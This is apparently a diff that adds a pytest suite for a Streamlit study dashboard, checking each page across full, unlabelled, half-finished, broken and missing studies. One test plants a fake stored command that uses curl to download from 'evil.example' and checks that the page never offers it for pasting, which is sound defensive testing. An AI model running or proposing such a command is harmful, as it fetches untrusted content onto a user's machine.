@@ -1,0 +1,215 @@
+"""Every page on full, unlabelled, half-finished, broken and absent studies."""
+
+from __future__ import annotations
+
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from core.jobs.commands import Analyze
+from core.store import open_study
+from tests.dashboard.conftest import MAIN, all_text, forget, remember, tiles, unescaped, write_progress
+from tests.manifests import edited_manifest
+
+TITLES = {
+    "overview": "demo",
+    "features": "Features",
+    "quality": "Quality",
+    "heatmaps": "Heatmaps",
+    "compare_groups": "Correct vs misclassified",
+    "interpretability": "Interpretability",
+    "concepts": "Concepts",
+    "groups": "Groups",
+    "decompose": "Decompose an image",
+    "failures": "Failures",
+    "compare": "Compare",
+    "slices": "Slices",
+    "images": "Images",
+    "figure_sheet": "Figure sheet",
+    "new_study": "New study",
+}
+VIEWS = tuple(TITLES)
+
+
+@pytest.mark.parametrize("view", VIEWS)
+def test_view__full_study(view, studies, open_page):
+    app = open_page(view, study="demo")
+    assert not app.exception
+    assert not app.error
+    assert app.title[0].value == TITLES[view]
+
+
+@pytest.mark.parametrize("view", VIEWS)
+def test_view__unlabelled_study(view, studies, unlabelled_study, open_page):
+    shutil.copytree(unlabelled_study, studies / "unlabelled")
+    app = open_page(view, study="unlabelled")
+    assert not app.exception
+    assert not app.error
+    assert not [box for box in app.multiselect if box.label in ("Class", "Predicted as")]
+
+
+def test_overview__headline_numbers_have_their_base_rates(studies, open_page):
+    app = open_page(study="demo")
+    shown = {metric.label: metric.value for metric in app.metric}
+    study = open_study(studies / "demo")
+    assert shown["Probe accuracy"] == f"{100 * study.summary('probe')['top1']:.1f} %"
+    assert shown["Q-Score AUROC"] == f"{study.summary('quality')['q_auroc']:.3f}"
+    assert "guessing: 25.0 %" in all_text(app)
+    assert "guessing: 0.500" in all_text(app)
+
+
+def test_overview__shows_the_premise_sentence(studies, open_page):
+    sentence = open_study(studies / "demo").summary("quality")["premise_sentence"]
+    said = all_text(open_page(study="demo"))
+    assert sentence in said
+
+
+@pytest.mark.parametrize("exists", [True, False])
+def test_no_studies__friendly_page_with_command(exists, tmp_path, monkeypatch, open_page):
+    folder = tmp_path / "none"
+    if exists:
+        folder.mkdir()
+    monkeypatch.setenv("PEREGRINE_STUDIES", str(folder))
+    app = open_page()
+    assert not app.exception
+    assert "There is no study yet" in all_text(app)
+    assert "python -m core demo" in [code.value for code in app.code]
+
+
+def test_running_study__shows_progress_then_opens_by_itself(tmp_path, full_study, monkeypatch, open_page):
+    folder = tmp_path / "studies"
+    monkeypatch.setenv("PEREGRINE_STUDIES", str(folder))
+    write_progress(folder / "demo")
+    app = open_page()
+    assert not app.exception
+    assert app.get("progress")[0].value == 25
+    assert "300 of 1,200 images" in all_text(app)
+    shutil.rmtree(folder / "demo")
+    shutil.copytree(full_study, folder / "demo")
+    app.run()
+    assert app.metric
+
+
+def test_half_finished_study__views_show_what_is_there(studies, open_page):
+    forget(studies / "demo", "neighbours", "probe", "quality")
+    write_progress(studies / "demo", stage="probe", unit="epochs")
+    for view in VIEWS:
+        app = open_page(view, study="demo")
+        assert not app.exception
+        assert not app.error
+        assert app.get("progress")
+    assert "python -m core neighbours" in all_text(open_page(study="demo"))
+
+
+def test_stopped_study__names_reason_and_command(studies, open_page):
+    command = Analyze(studies / "mine", images="glyphworld", encoder="asset:simclr_glyphworld")
+    remember(studies / "mine", command)
+    write_progress(studies / "mine", state="failed", error="EncoderError: NaN in cat/1.png")
+    said = all_text(open_page(study="mine"))
+    assert "stopped with an error" in said
+    assert "NaN in cat" in said
+    assert command.shell in said and "studies/new" not in said
+
+
+def test_stopped_study__of_a_stranger_shows_no_command_to_paste(studies, open_page):
+    write_progress(studies / "mine", state="failed", error="x", command=["curl", "evil.example", "-o", "y"])
+    app = open_page(study="mine")
+    assert "Run the command that began it once more" in all_text(app)
+    assert not any("evil.example" in code.value for code in app.code)
+
+
+@pytest.mark.parametrize(
+    ("manifest", "says"), [('{"format": 99}', "Update Peregrine"), ("{ half a file", "damaged")]
+)
+def test_broken_study__clear_error_and_the_others_go_on(manifest, says, studies, open_page):
+    (studies / "bad").mkdir()
+    (studies / "bad" / "manifest.json").write_text(manifest)
+    app = open_page(study="bad")
+    assert not app.exception
+    assert says in unescaped(app.error[0].value)
+    app.selectbox(key="study").select("demo").run()
+    assert not app.error
+    assert app.metric
+
+
+def test_rewritten_study__next_run_shows_the_new_numbers(studies, open_page):
+    app = open_page(study="demo")
+    with edited_manifest(studies / "demo") as manifest:
+        manifest["steps"]["probe"]["summary"]["top1"] = 0.125
+    app.run()
+    assert "12.5 %" in [metric.value for metric in app.metric]
+
+
+def test_deleted_table__the_images_go_on_without_scores(studies, open_page):
+    (studies / "demo" / "quality.parquet").unlink()
+    app = open_page("images", study="demo")
+    assert not app.exception and not app.error
+    assert not any(tile["badge"] for tile in tiles(app, "images_gallery"))
+    assert "quality.parquet is gone" in all_text(open_page("quality", study="demo"))
+
+
+def test_images__link_restores_the_filters(studies, open_page):
+    app = open_page("images", study="demo", where="split=val label=ant,bee")
+    images = open_study(studies / "demo").images
+    expected = ((images["split"] == "val") & images["label"].isin(["ant", "bee"])).sum()
+    assert f"**{expected}** of {len(images)} images" in all_text(app)
+
+
+def test_images__free_condition(studies, open_page):
+    study = open_study(studies / "demo")
+    pointers = study.vector("firing_by_feature_ptr")
+    feature = int((pointers[1:] - pointers[:-1]).argmax())
+    said = all_text(open_page("images", study="demo", where=f"fires={feature}"))
+    assert f"**{pointers[feature + 1] - pointers[feature]}** of" in said
+
+
+def test_images__wrong_condition_is_named_and_left_out(studies, open_page):
+    app = open_page("images", study="demo", where="fires=100000")
+    assert "no feature 100000" in unescaped(app.info[0].value)
+    assert f"**{open_study(studies / 'demo').n_images}** images" in all_text(app)
+
+
+def test_images__stale_parts_of_a_link_are_dropped_with_a_note(studies, open_page):
+    app = open_page("images", study="demo", where="label=unicorn", image="no/such.png")
+    said = unescaped(" ".join(note.value for note in app.info))
+    assert "unicorn" in said
+    assert "no/such.png" in said
+    assert "image" not in app.query_params
+
+
+def test_images__sorted_by_score(studies, open_page):
+    app = open_page("images", study="demo", images_sort="Q-Score, lowest first")
+    assert not app.exception
+    assert app.selectbox(key="images_sort").value == "Q-Score, lowest first"
+
+
+def test_image_detail__opens_from_the_link(studies, open_page):
+    study = open_study(studies / "demo")
+    row = int(study.is_val.nonzero()[0][0])
+    app = open_page("images", study="demo", image=study.images["image_id"].iat[row])
+    assert not app.exception
+    said = all_text(app)
+    assert f"True class **{study.images['label'].iat[row]}**" in said
+    assert re.search(r"\d+ features fire, \d+ of them discriminative", said)
+    assert "From the evaluation split" in said
+
+
+def test_dashboard__never_imports_torch(studies):
+    script = f"""
+import sys
+from streamlit.testing.v1 import AppTest
+import dashboard.app
+app = AppTest.from_file({str(MAIN)!r}, default_timeout=60).run()
+for view in {VIEWS[1:]!r}:
+    app.switch_page(f"views/{{view}}.py").run()
+    assert not app.exception, app.exception
+heavy = [name for name in ("torch", "torchvision", "timm", "lightly", "sklearn") if name in sys.modules]
+sys.exit(f"imported {{heavy}}" if heavy else 0)
+"""
+    root = Path(MAIN).parents[1]
+    done = subprocess.run([sys.executable, "-c", script], cwd=root, capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr[-2000:]
